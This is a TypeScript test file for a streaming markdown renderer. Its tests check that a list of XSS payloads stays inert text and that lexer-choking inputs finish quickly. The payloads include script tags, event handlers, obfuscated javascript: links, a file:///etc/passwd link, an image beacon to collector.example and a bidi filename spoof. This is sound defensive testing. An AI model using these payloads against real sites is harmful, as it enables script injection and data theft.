import assert from "node:assert/strict";
import { test } from "node:test";
import { LONG } from "../src/components/markdown.ts";
import { lex } from "../src/lexed.ts";
import { blockNode } from "../src/tokens.ts";
import { data, scene, text } from "./builders.ts";
import { type Rig, open, press } from "./rig.ts";
import { RICH } from "./scenes.ts";

function streamed(): Rig {
  return open(scene({ turns: [[text("", { done: false })]] }));
}

function feed(rig: Rig, words: string): void {
  rig.kernel.frame([], [["/b/t1b1/text", words]]);
}

function body(rig: Rig): HTMLElement {
  return rig.one(".b-text");
}

function whole(words: string): string {
  const rig = open(scene({ turns: [[text(words)]] }));
  return body(rig).innerHTML.replaceAll(' class="b-caret"', "");
}

test("markdown becomes elements", () => {
  const rig = open(scene({ turns: [[text(RICH)]] }));
  const tags = [
    "h6",
    "strong",
    "em",
    "a",
    "code",
    "ol",
    "ul",
    "blockquote",
    "table",
    "pre",
    "hr",
  ];
  for (const tag of tags) assert.ok(body(rig).querySelector(tag), tag);
  const [right] = body(rig).querySelectorAll("td[data-align=right]");
  assert.equal(right?.textContent, "412");
});

test("a text written in pieces ends as the text written at once", () => {
  for (let size = 1; size < 40; size = size * 2 + 1) {
    const rig = streamed();
    for (let at = 0; at < RICH.length; at += size) {
      feed(rig, RICH.slice(at, at + size));
      rig.page.paint();
    }
    rig.kernel.frame([data("/b/t1b1/done", true)]);
    rig.page.paint();
    assert.equal(body(rig).innerHTML, whole(RICH), `pieces of ${size}`);
  }
});

test("blocks that are closed are not drawn again", () => {
  const rig = streamed();
  feed(rig, "First paragraph.\n\nSecond paragraph begins");
  rig.page.paint();
  const first = rig.one(".b-text p");
  feed(rig, " and goes on.\n\nThird\n");
  rig.page.paint();
  rig.kernel.frame([data("/b/t1b1/done", true)]);
  rig.page.paint();
  assert.equal(rig.one(".b-text p"), first);
  assert.equal(rig.all(".b-text p").length, 3);
});

test("what looks closed and is not is put right at the end", () => {
  const words = "para\n\n```x`y\n\nmore [ref]\n\n[ref]: https://example.org\n";
  const rig = streamed();
  for (const letter of words) {
    feed(rig, letter);
    rig.page.paint();
  }
  rig.kernel.frame([data("/b/t1b1/done", true)]);
  rig.page.paint();
  assert.equal(body(rig).innerHTML, whole(words));
});

test("ten thousand pieces end with the whole text in few paints", () => {
  const rig = streamed();
  let words = "";
  for (let at = 0; at < 10_000; at += 1) {
    const piece = at % 60 === 59 ? "end.\n\n" : `w${at} `;
    words += piece;
    feed(rig, piece);
    if (at % 100 === 99) rig.page.pass(16);
  }
  rig.kernel.frame([data("/b/t1b1/done", true)]);
  rig.page.paint();
  assert.equal(body(rig).textContent.replace(/\s+/g, ""), words.replace(/\s+/g, ""));
  assert.ok(rig.page.paints <= 103, `${rig.page.paints} paints`);
});

test("lines that end as on another system are read all the same", () => {
  const rig = streamed();
  for (const piece of ["One.\r", "\n\r\nTwo ", "words.\r\n\r\nThree", "."]) {
    feed(rig, piece);
    rig.page.paint();
  }
  assert.deepEqual(
    rig.all(".b-text p").map((p) => p.textContent),
    ["One.", "Two words.", "Three."],
  );
});

test("the caret stands only while text is written", () => {
  const rig = streamed();
  feed(rig, "x");
  rig.page.paint();
  assert.ok(body(rig).classList.contains("b-caret"));
  rig.kernel.frame([data("/b/t1b1/done", true)]);
  rig.page.paint();
  assert.ok(!body(rig).classList.contains("b-caret"));
});

const HOSTILE = [
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  "<svg onload=alert(1)>",
  "a <b onclick=x>b</b> c",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](vbscript:x) [y](data:text/html,<script>x</script>) [z](file:///etc/passwd)",
  "[x](//evil.example/a) [y](/files/a) [z](relative)",
  "![x](https://collector.example/p?d=CANARY)",
  "![x](data:image/png;base64,AAAA)",
  '<a href="javascript:x">x</a>',
  "<style>*{display:none}</style>",
  "<form><input name=attributes></form>",
  "[x](<javascript:alert(1)>)",
  "<javascript:alert(1)>",
];

test("what turns the direction of a text is written out, and copied as it is", () => {
  const rig = open(scene({ turns: [[text("invoice\u202ecod.exe `a\u2066b`")]] }));
  const drawn = rig.one(".b-text").textContent ?? "";
  assert.equal(drawn, "invoice⟦U+202E⟧cod.exe a⟦U+2066⟧b");
});

test("hostile text stays text", () => {
  const rig = open(scene({ turns: [HOSTILE.map((words) => text(words))] }));
  const allowed = new Set(["DIV", "P", "SPAN", "CODE", "EM", "STRONG", "PRE"]);
  for (const node of rig.all(".b-text *")) {
    assert.ok(allowed.has(node.tagName), `${node.tagName}: ${node.textContent}`);
    for (const { name } of node.attributes) {
      assert.ok(["class", "dir"].includes(name), name);
    }
  }
  assert.match(rig.words(), /<script>alert\(1\)<\/script>/);
  assert.match(rig.words(), /x \(https:\/\/collector\.example\/p\?d=CANARY\)/);
  assert.match(rig.words(), /x \(javascript:alert\(1\)\)/);
});

test("links lead out in a new tab and tell nobody where they came from", () => {
  const words =
    "[a](https://example.org/x) <mailto:a@b.example> www.example.com http://x.example";
  const rig = open(scene({ turns: [[text(words)]] }));
  const links = rig.all("a");
  assert.deepEqual(
    links.map((link) => link.getAttribute("href")),
    [
      "https://example.org/x",
      "mailto:a@b.example",
      "http://www.example.com/",
      "http://x.example/",
    ],
  );
  for (const link of links) {
    assert.equal(link.getAttribute("target"), "_blank");
    assert.equal(link.getAttribute("rel"), "noopener noreferrer nofollow");
  }
});

test("character references are the characters they stand for, outside of code", () => {
  const rig = open(
    scene({ turns: [[text("&lt;b&gt; &amp; &copy; &#x2014; &nope; `&amp;`")]] }),
  );
  assert.equal(rig.one(".b-text p").textContent, "<b> & © — &nope; &amp;");
});

test("texts made to choke a lexer are drawn as plain text, soon", () => {
  const traps = [
    "> ".repeat(5000) + "x",
    ">".repeat(5000),
    "- ".repeat(3000) + "x",
    "[".repeat(20_000),
    "*a ".repeat(5000),
    "`".repeat(20_000),
    "_".repeat(9000) + "a",
    "<".repeat(9000),
    "![".repeat(5000),
    "| a ".repeat(5000) + "\n" + "|-".repeat(5000),
    "a".repeat(100_000),
    "\\".repeat(10_000),
    "[a](".repeat(3000),
    "1. ".repeat(3000),
    "#".repeat(10_000),
    "(".repeat(20_000) + "http://x",
  ];
  for (const trap of traps) {
    const started = performance.now();
    const nodes = lex(trap).flatMap((token) => blockNode(token) ?? []);
    const took = performance.now() - started;
    assert.ok(nodes.length > 0);
    assert.ok(took < 4000, `${trap.slice(0, 8)} took ${took}`);
  }
});

test("of a very long text the middle is left out until it is asked for", () => {
  const line = `${"rye ".repeat(24)}\n\n`;
  const words = line.repeat(Math.ceil(1_000_000 / line.length));
  const rig = open(scene({ turns: [[text(words)]] }));
  const shown = () => body(rig).textContent.length;
  assert.match(rig.words(), /9\d\d,\d{3} characters not shown/);
  assert.ok(shown() < 60_000);
  press(rig.button("Show 200 kB more"));
  assert.ok(shown() > LONG && shown() < LONG + 80_000);
  press(rig.button("Show all"));
  assert.ok(shown() > 900_000);
  assert.doesNotMatch(rig.words(), /not shown/);
});

test("a text that grows past what is shown keeps its beginning and its end", () => {
  const rig = streamed();
  for (let at = 0; at < 60; at += 1) {
    feed(rig, `Paragraph ${at}. ${"rye ".repeat(1200)}\n\n`);
    rig.page.paint();
  }
  assert.match(rig.words(), /Paragraph 0\./);
  assert.match(rig.words(), /Paragraph 59\./);
  assert.match(rig.words(), /characters not shown/);
  assert.ok(body(rig).textContent.length < 80_000);
});
